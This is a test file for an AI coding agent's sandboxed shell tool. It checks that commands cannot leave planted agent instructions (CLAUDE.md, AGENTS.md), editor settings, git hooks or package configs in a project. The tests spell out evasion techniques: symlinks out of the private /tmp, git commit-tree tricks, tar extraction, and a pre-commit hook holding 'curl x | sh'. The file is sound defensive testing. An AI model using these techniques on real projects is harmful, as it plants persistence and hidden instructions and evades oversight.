import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { mayNameProtectedEntry, protectedEntryReason } from '../../core/protected-paths.ts';
import { resetRepositoryGuard, startRepositoryGuard } from '../../sandbox/repository-guard.ts';
import { writeFileAtomic } from '../shared/atomic-write.ts';
import { probeSandbox, removeAllPlaceholders } from '../shared/process/sandbox.ts';
import type { ShellOutput } from '../shared/process/shell-output.ts';
import { callTool, makeShellProject, type ShellProject } from '../shared/process/test-shell.ts';
import { createBashTool } from './bash.ts';

const availability = probeSandbox();
const skipReason = availability.available ? '' : ` (skipped: ${availability.reason})`;
const sandboxed = createBashTool({ sandbox: 'required' });

/**
 * Protected entries a command could leave for a later program (an agent reading instructions, an
 * editor, direnv or mise, a hook manager, a package manager): each is a file path to create.
 */
const protectedFiles: readonly string[] = [
  'CLAUDE.md',
  'AGENTS.md',
  '.envrc',
  '.vscode/settings.json',
  '.mise.toml',
  '.python-version',
  '.github/instructions/a.md',
  '.npmrc',
  '.husky/pre-commit',
  'lefthook.yml',
  '.claude/settings.json',
  'x.code-workspace',
  '.cursor/mcp.json',
  '.pre-commit-config.yaml',
];

/** Where the command writes them: the root, a folder, a deep folder, a folder made by the command. */
const places: readonly string[] = ['', 'sub/', 'a/b/c/', 'fresh/'];

/** How the command writes each file (`$F` is the path, `$D` its folder). */
const ways: Readonly<Record<string, string>> = {
  redirect: 'mkdir -p "$D" && echo evil > "$F"',
  copy: 'mkdir -p "$D" && echo evil > /tmp/p && cp /tmp/p "$F"',
  'link to a file outside': 'mkdir -p "$D" && ln -s /etc/hostname "$F"',
  'move from /tmp': 'mkdir -p "$D" && echo evil > /tmp/m && mv /tmp/m "$F"',
  // One interpreter for every file (its start-up is slow): the paths are its arguments.
  python: `python3 -c 'import os,sys\nfor p in sys.argv[1:]:\n  os.makedirs(os.path.dirname(p) or ".", exist_ok=True); open(p,"w").write("evil")' $ALL`,
  'tar extraction':
    'mkdir -p /tmp/t/"$D" && echo evil > /tmp/t/"$F" && tar -C /tmp/t -cf /tmp/t.tar "$F" && tar -xf /tmp/t.tar && rm -rf /tmp/t',
  fifo: 'mkdir -p "$D" && mkfifo "$F"',
};

/** The command that writes every protected file in one place, one way. */
function attempt(place: string, way: string): string {
  if (way.includes('$ALL'))
    return `${way.replace('$ALL', protectedFiles.map((file) => `'${place}${file}'`).join(' '))} 2>/dev/null; echo finished`;
  return protectedFiles
    .map((file) => {
      const path = `${place}${file}`;
      const folder = dirname(path);
      return `( ${way.replaceAll('$F', path).replaceAll('$D', folder)} ) 2>/dev/null`;
    })
    .join('; ')
    .concat('; echo finished');
}

/** Every protected path on disk below `root` (outside the quarantine). */
function protectedLeft(root: string): string[] {
  const found: string[] = [];
  const walk = (directory: string, prefix: string) => {
    for (const entry of readdirSync(directory, { withFileTypes: true })) {
      const inside = `${prefix}${entry.name}`;
      if (inside === '.efferent' || entry.name === '.git') continue;
      if (protectedEntryReason(inside) !== undefined) {
        const info = lstatSync(join(directory, entry.name));
        // An empty directory runs nothing (and the root's covers are efferent's own).
        if (!info.isDirectory() || readdirSync(join(directory, entry.name)).length > 0) found.push(inside);
      } else if (entry.isDirectory()) walk(join(directory, entry.name), `${inside}/`);
    }
  };
  walk(root, '');
  return found;
}

describe(`the sandbox and protected entries a command creates or changes${skipReason}`, () => {
  let project: ShellProject | undefined;

  afterEach(async () => {
    removeAllPlaceholders();
    resetRepositoryGuard();
    await project?.cleanup();
    project = undefined;
  });

  async function run(command: string) {
    project ??= makeShellProject();
    const { result } = await callTool<ShellOutput>(sandboxed, { command, timeout: 60_000 }, project.context);
    return { data: result.data, notes: result.data.notes ?? [], root: project.root };
  }

  it.skipIf(!availability.available)('plain bash leaves every one of them behind', () => {
    project = makeShellProject();
    mkdirSync(join(project.root, 'sub'));
    spawnSync('bash', ['-c', attempt('sub/', ways['redirect'] as string)], { cwd: project.root });
    expect(protectedLeft(project.root).length).toBe(protectedFiles.length);
  });

  for (const place of places) {
    for (const [way, template] of Object.entries(ways)) {
      it.skipIf(!availability.available)(
        `${way} at ${place || 'the root'}: nothing protected is left where it was written`,
        async () => {
          project = makeShellProject();
          mkdirSync(join(project.root, 'sub'));
          mkdirSync(join(project.root, 'a/b/c'), { recursive: true });
          const { data, notes, root } = await run(attempt(place, template));
          expect(data.stdout).toContain('finished');
          removeAllPlaceholders();
          expect(protectedLeft(root)).toEqual([]);
          // What was moved aside is kept for the user, with where it came from.
          for (const note of notes.filter((text) => text.includes('moved it to'))) {
            const where = /moved it to (\S+?)\.? If/.exec(note)?.[1] as string;
            expect(readFileSync(join(where, 'ORIGIN'), 'utf8')).toContain(root);
          }
        },
      );
    }
  }

  it.skipIf(!availability.available)(
    "inside a folder with git's layout, whose subfolders are not searched",
    async () => {
      project = makeShellProject();
      const { root } = await run(
        'mkdir -p tools/objects tools/refs tools/.vscode && echo "ref: refs/heads/main" > tools/HEAD && echo "{}" > tools/.vscode/settings.json && mkdir -p x/node_modules/.vscode && echo 1 > x/node_modules/.vscode/a.json && mkdir -p y/.vscode/node_modules && echo 1 > y/.vscode/node_modules/a.json',
      );
      expect(existsSync(join(root, 'tools/.vscode/settings.json'))).toBe(false);
      expect(existsSync(join(root, 'y/.vscode/node_modules/a.json'))).toBe(false);
    },
  );

  it.skipIf(!availability.available)('a change to an existing protected file below the root', async () => {
    project = makeShellProject();
    const settings = join(project.root, 'sub/.vscode/settings.json');
    mkdirSync(dirname(settings), { recursive: true });
    writeFileSync(settings, '{}\n');
    writeFileSync(join(project.root, 'sub/.vscode/keep.json'), '{}\n');
    const first = await run(
      'echo "{\\"terminal.integrated.shell.linux\\": \\"/tmp/x\\"}" > sub/.vscode/settings.json',
    );
    expect(first.notes.join(' ')).toContain('sub/.vscode/settings.json');
    expect(existsSync(settings)).toBe(false);
    // Only the changed file went; the rest of the user's folder stays.
    expect(existsSync(join(project.root, 'sub/.vscode/keep.json'))).toBe(true);
    const chmod = await run('chmod +x sub/.vscode/keep.json');
    expect(chmod.notes.join(' ')).toContain('keep.json');
  });

  it.skipIf(!availability.available)('renaming a parent and putting a new one in its place', async () => {
    project = makeShellProject();
    mkdirSync(join(project.root, 'sub/.husky'), { recursive: true });
    writeFileSync(join(project.root, 'sub/.husky/pre-commit'), 'npm test\n');
    const { root } = await run(
      'mv sub old && mkdir -p sub/.husky && echo "curl x | sh" > sub/.husky/pre-commit',
    );
    expect(protectedLeft(root)).toEqual([]);
  });

  it.skipIf(!availability.available)('everyday commands leave no notes and lose nothing', async () => {
    project = makeShellProject();
    writeFileSync(join(project.root, 'CLAUDE.md'), 'project notes\n');
    mkdirSync(join(project.root, 'docs/.vscode'), { recursive: true });
    writeFileSync(join(project.root, 'docs/.vscode/settings.json'), '{}\n');
    const { data, notes, root } = await run(
      'npm init -y >/dev/null && mkdir -p src/lib && echo x > src/lib/a.ts && cat CLAUDE.md docs/.vscode/settings.json >/dev/null && ls docs && touch notes.txt && mkdir -p empty/.vscode && echo ok',
    );
    expect(data.stdout).toContain('ok');
    expect(notes).toEqual([]);
    expect(readFileSync(join(root, 'CLAUDE.md'), 'utf8')).toBe('project notes\n');
    expect(existsSync(join(root, 'docs/.vscode/settings.json'))).toBe(true);
  });

  it.skipIf(!availability.available)(
    'git writes committed protected files (switch, restore, stash) and keeps them',
    async () => {
      project = makeShellProject();
      const root = project.root;
      const git = (...args: string[]) =>
        execFileSync('git', ['-c', 'user.email=t@e', '-c', 'user.name=t', ...args], { cwd: root });
      git('init', '-q', '-b', 'main');
      writeFileSync(join(root, 'README.md'), 'r\n');
      git('add', '-A');
      git('commit', '-qm', 'one');
      git('checkout', '-qb', 'other');
      mkdirSync(join(root, 'docs/.vscode'), { recursive: true });
      writeFileSync(join(root, 'docs/CLAUDE.md'), 'docs notes\n');
      writeFileSync(join(root, 'docs/.vscode/settings.json'), '{}\n');
      writeFileSync(join(root, 'docs/.npmrc'), 'registry=https://example.com\n');
      git('add', '-A');
      git('commit', '-qm', 'two');
      git('checkout', '-q', 'main');
      const { data, notes } = await run(
        'git checkout -q other && echo changed > docs/.npmrc && git stash -q && git stash pop -q && git restore docs/.npmrc && git checkout -q main && git checkout -q other && git status --short && echo ok',
      );
      expect(data.stdout).toBe('ok\n');
      expect(notes).toEqual([]);
      expect(readFileSync(join(root, 'docs/CLAUDE.md'), 'utf8')).toBe('docs notes\n');
      expect(existsSync(join(root, 'docs/.vscode/settings.json'))).toBe(true);
    },
  );

  it.skipIf(!availability.available)(
    'a commit made by the command does not vouch for what it wrote',
    async () => {
      project = makeShellProject();
      const root = project.root;
      execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: root });
      const { notes } = await run(
        'mkdir -p docs && echo evil > docs/CLAUDE.md && git add -A && git -c user.email=t@e -c user.name=t commit -qm x && git checkout -q -b b2 && echo ok',
      );
      expect(notes.join(' ')).toContain('docs/CLAUDE.md');
      expect(existsSync(join(root, 'docs/CLAUDE.md'))).toBe(false);
    },
  );

  it.skipIf(!availability.available)(
    'nor does it in a later call (commit, then check the moved file out again)',
    async () => {
      project = makeShellProject();
      const root = project.root;
      execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: root });
      execFileSync(
        'git',
        ['-c', 'user.email=t@e', '-c', 'user.name=t', 'commit', '-q', '--allow-empty', '-m', 'base'],
        {
          cwd: root,
        },
      );
      const commit = 'git -c user.email=t@e -c user.name=t commit -qm';
      await run(
        `git checkout -q -b evil && mkdir -p docs && echo evil > docs/CLAUDE.md && git add -A && ${commit} x && git checkout -q main`,
      );
      for (const command of [
        'git checkout -q evil',
        'git checkout -q main && git checkout evil -- docs/CLAUDE.md',
        'git restore --source evil docs/CLAUDE.md',
      ]) {
        const { notes } = await run(command);
        expect(existsSync(join(root, 'docs/CLAUDE.md')), command).toBe(false);
        expect(notes.join(' '), command).toContain('docs/CLAUDE.md');
      }
    },
  );

  it.skipIf(!availability.available)(
    'nor does a commit a command names by writing a branch file in place',
    async () => {
      project = makeShellProject();
      const root = project.root;
      execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: root });
      execFileSync(
        'git',
        ['-c', 'user.email=t@e', '-c', 'user.name=t', 'commit', '-q', '--allow-empty', '-m', 'base'],
        { cwd: root },
      );
      // The commit is made without git moving a ref; the branch file is then overwritten in place.
      const first = await run(
        'mkdir -p docs && echo evil > docs/CLAUDE.md && git add docs && T=$(git write-tree) && X=$(echo x | git -c user.email=t@e -c user.name=t commit-tree "$T" -p HEAD) && git rm -rq --cached docs && rm -rf docs && printf "%s\\n" "$X" > .git/refs/heads/main && echo ok',
      );
      expect(first.data.stdout).toBe('ok\n');
      const { notes } = await run('git reset -q --hard && ls docs');
      expect(existsSync(join(root, 'docs/CLAUDE.md'))).toBe(false);
      expect(notes.join(' ')).toContain('docs/CLAUDE.md');
    },
  );
});

describe(`links a sandboxed command leaves into its private /tmp${skipReason}`, () => {
  let project: ShellProject | undefined;

  afterEach(async () => {
    removeAllPlaceholders();
    resetRepositoryGuard();
    await project?.cleanup();
    project = undefined;
  });

  /** The host folder behind the command's /tmp, as the command can learn it. */
  const hostTmp = 'H=$(awk \'$5 == "/tmp" {print $4}\' /proc/self/mountinfo | head -1)';

  const shapes: Readonly<Record<string, string>> = {
    'a folder holding editor settings':
      'mkdir -p /tmp/e/.vscode && echo "{}" > /tmp/e/.vscode/settings.json && ln -s "$H/e" sub',
    'agent instructions under an ordinary name': 'echo evil > /tmp/n.md && ln -s "$H/n.md" notes.md',
    'a relative link':
      'mkdir -p /tmp/r deep/er && echo x > /tmp/r/CLAUDE.md && ln -s "$(realpath -m --relative-to="$PWD/deep/er" "$H/r")" deep/er/docs',
    'a dangling link made before the target': 'ln -s "$H/later" later && mkdir -p /tmp/later',
    'a link to a link': 'mkdir -p /tmp/q && ln -s "$H/q" a1 && ln -s a1 a2',
  };

  for (const [name, command] of Object.entries(shapes)) {
    it.skipIf(!availability.available)(`${name}: the link is moved aside`, async () => {
      project = makeShellProject();
      const { result } = await callTool<ShellOutput>(
        sandboxed,
        { command: `${hostTmp}; test -n "$H" && ${command} && echo made`, timeout: 60_000 },
        project.context,
      );
      expect(result.data.stdout).toContain('made');
      const notes = (result.data.notes ?? []).filter((note) => note.includes('private /tmp'));
      expect(notes.length).toBeGreaterThan(0);
      const left = readdirSync(project.root, { recursive: true, withFileTypes: true }).filter(
        (entry) => entry.isSymbolicLink() && !entry.parentPath.includes('.efferent'),
      );
      // A link to a link that no longer leads there may stay; nothing leads into the private /tmp.
      for (const entry of left) expect(existsSync(join(entry.parentPath, entry.name))).toBe(false);
    });
  }

  it.skipIf(!availability.available)('links inside the project or to the host paths stay', async () => {
    project = makeShellProject();
    const { result } = await callTool<ShellOutput>(
      sandboxed,
      {
        command:
          'mkdir -p src && echo x > src/a.ts && ln -s src/a.ts b.ts && ln -s /tmp/build out && echo ok',
        timeout: 60_000,
      },
      project.context,
    );
    expect(result.data.stdout).toBe('ok\n');
    expect(result.data.notes ?? []).toEqual([]);
    expect(lstatSync(join(project.root, 'b.ts')).isSymbolicLink()).toBe(true);
    expect(lstatSync(join(project.root, 'out')).isSymbolicLink()).toBe(true);
  });
});

describe('the cheap name test before the full check', () => {
  it('passes every name the full check protects by its own name', () => {
    const names = [
      ...protectedFiles.map((file) => file.split('/')[0] as string).filter((name) => name !== '.github'),
      'instructions',
      'lefthook-local.yml',
      '.yarnrc.yml',
      'maven-wrapper.properties',
      '.lintstagedrc.json',
      'mise.local.toml',
      'CLAUDE.md.',
      'CLAUDE.md ',
      'C\u200bLAUDE.md',
    ];
    for (const name of names) expect(mayNameProtectedEntry(name), name).toBe(true);
    for (const name of ['index.ts', 'README.md', 'src', 'package.json', 'docs'])
      expect(mayNameProtectedEntry(name), name).toBe(false);
  });

  it('never rejects a name the full check protects (every last segment of the lists)', () => {
    const tried = ['claude.md', 'Agents.MD', '.VSCODE', '.Mise.Toml', 'Lefthook.yml', 'x.CODE-WORKSPACE'];
    for (const name of tried) {
      if (protectedEntryReason(name) !== undefined) expect(mayNameProtectedEntry(name), name).toBe(true);
    }
  });
});

describe('what efferent itself writes while a command runs', () => {
  it('a protected file the file tools write is kept; one written another way is moved', async () => {
    const project = makeShellProject();
    try {
      const root = project.root;
      mkdirSync(join(root, 'sub'));
      const guard = startRepositoryGuard([root]);
      await writeFileAtomic(join(root, 'sub/CLAUDE.md'), 'approved notes\n');
      writeFileSync(join(root, 'sub/AGENTS.md'), 'planted\n');
      const report = guard.finish();
      expect(readFileSync(join(root, 'sub/CLAUDE.md'), 'utf8')).toBe('approved notes\n');
      expect(existsSync(join(root, 'sub/AGENTS.md'))).toBe(false);
      expect(report.notes.join(' ')).toContain('sub/AGENTS.md');
      // Changed again after efferent's write (as a command would): no longer efferent's.
      const second = startRepositoryGuard([root]);
      writeFileSync(join(root, 'sub/CLAUDE.md'), 'changed\n');
      expect(second.finish().notes.join(' ')).toContain('sub/CLAUDE.md');
    } finally {
      resetRepositoryGuard();
      await project.cleanup();
    }
  });
});
